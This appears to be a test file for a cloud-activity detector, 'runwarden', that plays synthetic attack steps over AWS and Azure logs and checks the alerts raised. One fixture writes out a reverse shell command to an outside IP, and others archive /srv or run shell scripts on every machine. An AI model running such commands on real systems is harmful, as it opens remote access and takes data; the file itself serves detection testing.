import { application, AZURE_PORTAL, OFFICE, person } from '../../scripts/examples/activity-log'
import { role, user, type AwsCaller } from '../../scripts/examples/aws-callers'
import { AUTOMATION_ACCOUNT, instance, PARTNER_ACCOUNT, vm } from '../../scripts/examples/ids'
import { newStory, type Story } from '../../scripts/examples/story'
import { dateOf, writeOrdinaryMonth } from './ordinary-month'
import { ACCESS, HOSTING, scanStory, VPN } from './scenario'

const LEARNING = { RUNWARDEN_LEARNING_DAYS: '7' }

/** Friday of the third week, on which nothing ordinary is worth a mail. */
const ATTACK_DAY = dateOf(18)
const at = (hour: number, minute = 0): string =>
  `${ATTACK_DAY}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00.000Z`

const AUTOMATION = 'Microsoft.Automation/automationAccounts'
const EXTENSION = 'Microsoft.Compute/virtualMachines/extensions/write'
const RUN = 'Microsoft.Compute/virtualMachines/runCommand/action'
const fleet = Array.from({ length: 6 }, (_, place) => instance(1_360 + place))
const deploy = (ip: string) => role('Deploy', 'GitHubActions-1018', { ip, accessKeyId: 'ASIAEXAMPLEDEPLOY18' })
const alice = (client: string) => person('alice@example.com', 0x11, { ip: ACCESS, client })

const throughEvents = ({ userIdentity }: AwsCaller): AwsCaller => ({
  userIdentity: { ...userIdentity, invokedBy: 'events.amazonaws.com' },
  sourceIPAddress: 'events.amazonaws.com',
  userAgent: 'events.amazonaws.com',
})

interface Stage {
  readonly name: string
  readonly write: (story: Story) => void
  /** Rule of the alert that must go out, and its severity. */
  readonly expected: string
}

const STAGES: readonly Stage[] = [
  {
    name: 'somebody new sends a command',
    write: (story) => void story.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }),
    expected: 'first-seen-caller medium',
  },
  {
    name: 'somebody new through a service that others have long used',
    write: (story) =>
      void story.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, [
        '/opt/rotate-logs.sh',
      ]),
    expected: 'first-seen-caller medium',
  },
  {
    name: "the pipeline's role through a VPN",
    write: (story) => void story.send(at(1), deploy(VPN), { instances: [fleet[0]!] }),
    expected: 'anonymised-source high',
  },
  {
    name: 'another script by the pipeline on its fleet',
    write: (story) => void story.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']),
    expected: 'mass-execution medium',
  },
  {
    name: 'a reverse shell by the pipeline on one machine',
    write: (story) =>
      void story.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, [
        'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      ]),
    expected: 'suspicious-command high',
  },
  {
    name: 'a document of another account',
    write: (story) =>
      void story.send(at(18), deploy(HOSTING), {
        instances: [fleet[0]!],
        document: `arn:aws:ssm:eu-west-1:${PARTNER_ACCOUNT}:document/Shop-Deploy`,
      }),
    expected: 'delegated-admin high',
  },
  {
    name: 'an association for all machines by the pipeline',
    write: (story) =>
      void story.trail.push(
        story.cloudTrail.call(
          at(18),
          deploy(HOSTING),
          'ssm:CreateAssociation',
          {
            name: 'AWS-RunShellScript',
            scheduleExpression: 'rate(30 minutes)',
            targets: [{ key: 'InstanceIds', values: ['*'] }],
          },
          {},
        ),
      ),
    expected: 'broad-target-selector medium',
  },
  {
    name: 'an association for many machines by those who make associations',
    write: (story) =>
      void story.trail.push(
        story.cloudTrail.call(
          at(18),
          role('Terraform', 'apply-18', { ip: ACCESS }),
          'ssm:CreateAssociation',
          { name: 'AWS-RunShellScript', targets: [{ key: 'InstanceIds', values: fleet }] },
          {},
        ),
      ),
    expected: 'mass-execution medium',
  },
  {
    name: 'a shell in a container with the role of a machine',
    write: (story) =>
      void story.trail.push(
        story.cloudTrail.call(
          at(1),
          role('Web', fleet[0]!, { ip: ACCESS }),
          'ecs:ExecuteCommand',
          { cluster: 'shop', task: '0123456789abcdef0123456789abcdef', command: '/bin/sh', interactive: true },
          {},
        ),
      ),
    expected: 'machine-credentials-elsewhere high',
  },
  {
    name: 'an Azure run command by somebody new',
    write: (story) => story.operation(at(1), person('mallory@example.com', 0x66, { ip: ACCESS }), RUN, vm('vm-1')),
    expected: 'first-seen-caller medium',
  },
  {
    name: 'a token of Office',
    write: (story) => story.operation(at(1), alice(OFFICE), RUN, vm('vm-1')),
    expected: 'unexpected-client high',
  },
  {
    name: 'a runbook by somebody who never wrote one',
    write: (story) => {
      story.operation(at(1), alice(AZURE_PORTAL), `${AUTOMATION}/runbooks/write`, `${AUTOMATION_ACCOUNT}/runbooks/Sync`)
      story.operation(at(1, 2), alice(AZURE_PORTAL), `${AUTOMATION}/jobs/write`, `${AUTOMATION_ACCOUNT}/jobs/sync-1`)
    },
    expected: 'automation-runbook medium',
  },
  {
    name: 'a script extension by who rolls out agents',
    write: (story) =>
      story.operation(at(1), application(0x31, ACCESS), EXTENSION, `${vm('vm-1')}/extensions/AzureMonitorLinuxAgent`, {
        requestBody: { properties: { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript' } },
      }),
    expected: 'first-seen-caller medium',
  },
]

const weekOf = (time: string): number => [1, 2, 3, 4].find((week) => time.slice(0, 10) < dateOf(7 * week)) ?? 0

describe('four ordinary weeks', () => {
  it('bring mails about what comes weekly until it came three times, and none about what comes daily', async () => {
    const story = newStory()
    writeOrdinaryMonth(story)
    const { alerts, activities } = await scanStory(story, LEARNING)
    const mails = (week: number): readonly string[] =>
      alerts
        .filter(({ time }) => weekOf(time) === week)
        .map(
          ({ actor, findings }) =>
            `${actor.display}: ${findings
              .filter(({ severity }) => severity === 'medium')
              .map(({ title }) => title)
              .join(' and ')}`,
        )
    expect(activities).toBeGreaterThan(500)
    // The fleet at its largest, and what infrastructure code does on Mondays, a little later than a week before.
    const rare = [
      'role/Terraform: First Seen Caller and Broad Target Selector',
      'role/Deploy: Mass Execution',
      'app/00000000-0000-0000-0000-000000000c21: Mass Execution',
      'role/Rollout: Mass Execution',
    ]
    expect([mails(2), mails(3), mails(4)]).toEqual([rare, rare, []])
    expect(alerts.filter(({ time }) => time.startsWith(ATTACK_DAY))).toEqual([])
  })

  it('bring fewer where history is longer than a week', async () => {
    const story = newStory()
    writeOrdinaryMonth(story)
    const { alerts } = await scanStory(story, { ...LEARNING, RUNWARDEN_HISTORY_DAYS: '15' })
    expect(
      alerts.filter(
        ({ time, findings }) =>
          weekOf(time) > 1 && findings.some(({ rule, risk }) => rule.endsWith('first-seen-caller') && risk > 0),
      ),
    ).toEqual([])
  })

  it.each(STAGES.map((stage) => [stage.name, stage] as const))(
    'hide nothing of an attack: %s',
    async (_name, { write, expected }) => {
      const story = newStory()
      writeOrdinaryMonth(story)
      write(story)
      const { alerts } = await scanStory(story, LEARNING)
      const reported = alerts
        .filter(({ time }) => time.startsWith(ATTACK_DAY))
        .flatMap(({ findings }) =>
          findings.map(({ rule, severity }) => `${rule.replace(/^runwarden\.\w+\./, '')} ${severity}`),
        )
      expect(reported).toContain(expected)
    },
  )
})
